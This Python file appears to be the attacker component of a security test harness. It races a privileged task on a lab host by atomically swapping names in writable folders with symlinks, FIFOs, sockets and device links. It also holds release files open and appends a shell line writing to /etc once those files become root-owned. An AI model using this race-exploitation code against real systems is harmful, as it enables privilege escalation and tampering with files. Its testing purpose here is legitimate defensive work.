"""The attacker: a program of the application's user that changes names under a task's hands.

It runs on a lab host until its standard input ends. In every folder that its user may write to, it exchanges what is
there with links out of the folder, FIFOs, sockets, look-alikes of devices, empty folders and hard links: by one system
call each (renameat2, RENAME_EXCHANGE), by descriptors, so that a folder whose own name is flipped is the same to it. It
also keeps files of releases open that it could open for writing, writes into them later, and reads whatever it can.

Usage: python3 flipper.py '{"places": […], "looks": […], "targets": […], "seed": N}'
  places   folders below which it works, where they can be written to
  looks    folders below which it reads
  targets  where its links lead: folders and files that it must not come to
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import random
import select
import socket
import stat
import sys
import time
from collections import Counter
from dataclasses import dataclass
from typing import Any

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))  # noqa: PTH100, PTH120
from marks import files, is_marked  # type: ignore[import-not-found,unused-ignore]

EXCHANGE = 2  # RENAME_EXCHANGE, linux/fs.h
PREFIX = ".flip-"
MOST_FOLDERS, MOST_VICTIMS, MOST_HELD = 60, 120, 200
# What a root that runs it would leave; the user itself cannot.
LINE = b"\n: >/etc/owned-by-the-attacker 2>/dev/null || :\n"
KINDS = ("link", "link", "link", "fifo", "socket", "folder", "hard link", "device", "dangling", "loop")
_libc = ctypes.CDLL(None, use_errno=True)


def exchange(folder: int, one: bytes, other: bytes) -> bool:
    """Exchange two names of a folder, so that neither is missing at any moment."""
    return bool(_libc.renameat2(folder, one, folder, other, EXCHANGE) == 0)


@dataclass
class Victim:
    """A name that is flipped.

    Args:
        folder: descriptor of where it is.
        name, decoy: what is exchanged.
        kind: of the decoy.
        away: whether the decoy has its name now.
        is_folder: whether it is one.
    """

    folder: int
    name: str
    decoy: str
    kind: str
    is_folder: bool
    away: bool = False

    def flip(self) -> bool:
        """Exchange it with its decoy."""
        done = exchange(self.folder, os.fsencode(self.name), os.fsencode(self.decoy))
        if done:
            self.away = not self.away
        return done


class Attacker:
    """Works until it is told to stop.

    Args:
        wanted: see the usage.
    """

    def __init__(self, wanted: dict[str, Any]) -> None:
        self.places: list[str] = wanted["places"]
        self.looks: list[str] = wanted["looks"]
        self.targets: list[str] = wanted["targets"]
        self.random = random.Random(wanted["seed"])  # noqa: S311 - to be had again
        self.folders: dict[int, tuple[str, int]] = {}
        self.victims: list[Victim] = []
        self.held: dict[int, int] = {}
        self.read: set[tuple[int, int]] = set()
        self.counts: Counter[str] = Counter()
        self.attacked: set[str] = set()
        self.stolen: set[str] = set()
        self.owned: set[str] = set()

    def run(self) -> None:
        """Attack in phases: names flipped without a pause, with short ones, or left wrong for a while."""
        told = False
        while not self._is_over():
            self._put_back()
            self._scan()
            self._spread()
            self._write()
            if not told:
                print("ready", flush=True)
                told = True
            pace = self.random.choice(("fast", "fast", "short", "short", "parked", "calm"))
            self.counts[f"phases {pace}"] += 1
            getattr(self, f"_{pace}")(time.monotonic() + self.random.uniform(0.05, 0.3))
        self._put_back()

    def report(self) -> dict[str, Any]:
        """What it did, and what it got."""
        return {
            "flips": self.counts["flips"],
            "counts": dict(self.counts),
            "attacked": sorted(self.attacked),
            "stolen": sorted(self.stolen),
            "owned": sorted(self.owned),
        }

    def _is_over(self) -> bool:
        return bool(select.select([0], [], [], 0)[0])

    # Phases.

    def _fast(self, until: float) -> None:
        while time.monotonic() < until:
            for victim in self.victims:
                self._flip(victim)

    def _short(self, until: float) -> None:
        while time.monotonic() < until:
            for victim in self.victims:
                if self.random.random() < 0.6:
                    self._flip(victim)
            time.sleep(self.random.choice((0.0001, 0.0005, 0.001, 0.003)))

    def _parked(self, until: float) -> None:
        for victim in self.victims:
            if self.random.random() < 0.5:
                self._flip(victim)
        time.sleep(max(0.0, until - time.monotonic()))

    def _calm(self, until: float) -> None:
        # Tasks come further when they see what they expect for a while.
        time.sleep(max(0.0, until - time.monotonic()))

    def _flip(self, victim: Victim) -> None:
        if victim.flip():
            self.counts["flips"] += 1
            self.counts[victim.kind] += 1
        else:
            self.counts["refused"] += 1

    # What there is to attack.

    def _scan(self) -> None:
        for opened in self.folders:
            os.close(opened)
        self.folders.clear()
        for place in self.places:
            self._enter(place, 0)
        self.counts["scans"] += 1
        for look in self.looks:
            for file in files(look):
                self._look_at(file)

    def _enter(self, path: str, depth: int) -> None:
        """Find the folders that can be written to."""
        if depth > 8 or len(self.folders) >= MOST_FOLDERS:
            return
        try:
            opened = os.open(path, os.O_RDONLY | os.O_DIRECTORY | os.O_NOFOLLOW)
        except OSError:
            return
        inner = []
        with contextlib.suppress(OSError), os.scandir(opened) as entries:
            inner = sorted(entry.name for entry in entries if entry.is_dir(follow_symlinks=False))
        if os.access(path, os.W_OK):
            self.folders[opened] = (path, len(inner))
            self.attacked.add(path)
        else:
            os.close(opened)
        for name in inner:
            self._enter(f"{path}/{name}", depth + 1)

    def _look_at(self, file: os.DirEntry[str]) -> None:
        """Read what can be read; keep what can be written to, and is not in a folder of ours."""
        try:
            seen = file.stat(follow_symlinks=False)
        except OSError:
            return
        key = (seen.st_ino, seen.st_ctime_ns)
        if key in self.read:
            return
        self.read.add(key)
        if is_marked(file.path):
            self.stolen.add(file.path)
        if "/releases/" in file.path and len(self.held) < MOST_HELD:
            with contextlib.suppress(OSError):
                self.held.setdefault(seen.st_ino, os.open(file.path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOFOLLOW))
                self.counts["held"] += 1

    def _write(self) -> None:
        """Write into what has become root's while we had it open."""
        for opened in self.held.values():
            with contextlib.suppress(OSError):
                if os.fstat(opened).st_uid == os.getuid():
                    continue
                os.lseek(opened, 0, os.SEEK_END)
                os.write(opened, LINE)
                self.counts["written"] += 1
                self.owned.add(os.readlink(f"/proc/self/fd/{opened}"))  # noqa: PTH115

    # Decoys.

    def _spread(self) -> None:
        self.victims = []
        for opened, (_, _) in self.folders.items():
            with contextlib.suppress(OSError), os.scandir(opened) as entries:
                found = [(entry.name, entry.is_dir(follow_symlinks=False)) for entry in entries]
                for name, is_folder in sorted(found):
                    if not name.startswith(PREFIX) and len(self.victims) < MOST_VICTIMS:
                        self._prepare(opened, name, is_folder)

    def _prepare(self, folder: int, name: str, is_folder: bool) -> None:
        kind = self.random.choice(KINDS)
        decoy = f"{PREFIX}{len(self.victims)}"
        try:
            self._make(folder, decoy, kind, name, is_folder)
        except OSError:
            self.counts["not made"] += 1
            return
        self.victims.append(Victim(folder, name, decoy, kind, is_folder))

    def _make(self, folder: int, decoy: str, kind: str, name: str, is_folder: bool) -> None:
        if kind == "link":
            target = self.random.choice(self.targets)
            # A folder leads to a folder, a file to the file of its name there.
            os.symlink(target if is_folder else f"{target}/{name}", decoy, dir_fd=folder)
        elif kind == "fifo":
            os.mkfifo(decoy, dir_fd=folder)
        elif kind == "socket":
            with socket.socket(socket.AF_UNIX) as made:
                made.bind(f"/proc/self/fd/{folder}/{decoy}")
        elif kind == "folder":
            os.mkdir(decoy, dir_fd=folder)
        elif kind == "hard link" and not is_folder:
            os.link(name, decoy, src_dir_fd=folder, dst_dir_fd=folder, follow_symlinks=False)
        elif kind == "device":
            os.symlink(self.random.choice(("/dev/zero", "/dev/full", "/dev/stdin")), decoy, dir_fd=folder)
        elif kind == "loop":
            os.symlink(decoy, decoy, dir_fd=folder)
        else:
            os.symlink("/nonexistent/there", decoy, dir_fd=folder)

    def _put_back(self) -> None:
        """Everything has its own name again, as far as we may still change it."""
        for victim in self.victims:
            if victim.away:
                victim.flip()
            if not victim.away:
                remove(victim.folder, victim.decoy)
        self.victims = []


def remove(folder: int, name: str) -> None:
    """Remove a name of ours, whatever it is by now."""
    with contextlib.suppress(OSError):
        if stat.S_ISDIR(os.stat(name, dir_fd=folder, follow_symlinks=False).st_mode):
            os.rmdir(name, dir_fd=folder)
        else:
            os.unlink(name, dir_fd=folder)


def main() -> None:
    """Attack until standard input ends."""
    attacker = Attacker(json.loads(sys.argv[1]))
    attacker.run()
    print(json.dumps(attacker.report()), flush=True)


if __name__ == "__main__":
    main()
